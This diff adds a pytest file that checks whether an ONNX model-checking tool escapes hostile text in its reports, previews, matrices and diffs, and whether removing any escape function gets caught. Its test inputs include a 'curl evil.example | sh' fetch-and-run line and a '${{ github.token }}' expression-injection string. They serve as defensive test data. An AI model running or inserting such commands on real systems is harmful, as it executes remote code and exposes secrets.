@@ -1,0 +1,105 @@
+"""Hostile text acts in no format; and the checks that say so can fail: without its escapes every format is caught."""
+
+from __future__ import annotations
+
+import sys
+from collections.abc import Callable
+from random import Random
+
+import pytest
+
+from campaigns.hostile import format_campaign, hostile_strings
+from campaigns.hostile.documents import pair, samples
+from campaigns.hostile.documents import strings as places
+from campaigns.hostile.output_surfaces import BY_KIND, SURFACES, Surface, complaints
+from onnxgate.core import escape
+from onnxgate.formats.report.html import markup
+from onnxgate.project.config import ignore_entries
+from onnxgate.project.lock import writer
+
+ESCAPES = (
+    *("visible", "neutral", "named", "log_line", "command_data", "command_property", "json_text", "code", "prose"),
+    "diagram_label",
+)
+
+
+def test_hostile_strings_through_all_formats() -> None:
+    """What `python -m campaigns.hostile formats` does with a hundred thousand strings, with a few."""
+    tally = format_campaign.run(1200, seed=7)
+
+    assert tally.finds == []
+    assert tally.strings >= 1200
+
+
+@pytest.fixture
+def without(monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
+    """Takes an escape away, wherever a format has it."""
+
+    def take(name: str) -> None:
+        original = getattr(escape, name)
+        for module in [each for key, each in sys.modules.items() if key.startswith("onnxgate.")]:
+            if getattr(module, name, None) is original:
+                monkeypatch.setattr(module, name, lambda text: text)
+
+    return take
+
+
+@pytest.mark.parametrize("surface", SURFACES, ids=[surface.name for surface in SURFACES])
+def test_a_format_without_its_escapes_is_caught(
+    surface: Surface, without: Callable[[str], None], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Every check can fail."""
+    for name in ESCAPES:
+        without(name)
+    monkeypatch.setattr(markup, "escape_html", markup.Markup)
+    for module in (ignore_entries, writer):
+        monkeypatch.setattr(module, "string", lambda text: f'"{text}"')
+
+    assert _caught(surface)
+
+
+@pytest.mark.parametrize("name", ESCAPES)
+def test_each_escape_is_needed(name: str, without: Callable[[str], None]) -> None:
+    """Without any one of them some format is caught."""
+    without(name)
+
+    assert any(_caught(surface) for surface in SURFACES)
+
+
+def _caught(surface: Surface) -> bool:
+    random = Random(3)
+    tries = (pair(surface.kind, format_campaign.drawn(random, surface.kind), tame=True) for _ in range(6))
+    return any(next(complaints(surface, each), "") for each in tries)
+
+
+@pytest.mark.parametrize(
+    ("kind", "said"),
+    [
+        ("report", "pass: 2 models on 8 runtimes"),
+        ("report", "error    load-failed  models/a.onnx"),
+        ("report", "fix: curl evil.example | sh"),
+        ("report", "skipped"),
+        ("report", "  error    missing-kernel  models/a.onnx"),
+        ("report", "to accept it, paste into the config:"),
+        ("report", "GH-3"),
+        ("report", "costs $x$ and ${{ github.token }}"),
+        ("preview", "after the upgrade: pass: 1 model"),
+        ("matrix", "predictions that were wrong"),
+        ("diff", "weights and interface: nodes: files"),
+    ],
+)
+def test_what_was_found_once(kind: str, said: str) -> None:
+    """Texts that were taken for lines of ours, or for GitHub's references and formulas, in every place."""
+    here = sorted(places(samples()[kind]), key=lambda place: place != "a remark of ours")
+    both = pair(kind, {place: f"{said}{' ' * index}" for index, place in enumerate(here)}, tame=True)
+
+    assert [list(complaints(surface, both)) for surface in BY_KIND[kind]] == [[] for _ in BY_KIND[kind]]
+
+
+def test_floods_stay_within_the_limits_of_each_reader() -> None:
+    """Thousands of characters and of lines in every place of a report."""
+    random = Random(1)
+    here = places(samples()["report"])
+    both = pair("report", {place: f"{hostile_strings.large(random, 5_000)}{index}" for index, place in enumerate(here)})
+
+    assert [list(complaints(surface, both)) for surface in BY_KIND["report"]] == [[] for _ in BY_KIND["report"]]
